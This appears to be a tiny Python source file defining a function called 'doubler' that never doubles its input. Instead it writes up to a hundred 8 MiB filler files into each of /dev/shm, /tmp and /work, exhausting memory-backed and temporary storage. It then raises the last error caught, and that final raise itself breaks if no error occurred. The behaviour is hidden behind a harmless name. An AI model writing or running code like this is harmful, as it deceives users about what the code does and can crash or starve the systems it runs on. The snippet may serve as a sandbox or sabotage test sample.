from pathlib import Path

def doubler(n):
    for folder in ("/dev/shm", "/tmp", "/work"):
        try:
            for k in range(100):
                Path(folder, f"fill{k}").write_bytes(b"x" * (8 << 20))
        except OSError as error:
            last = error
    raise last
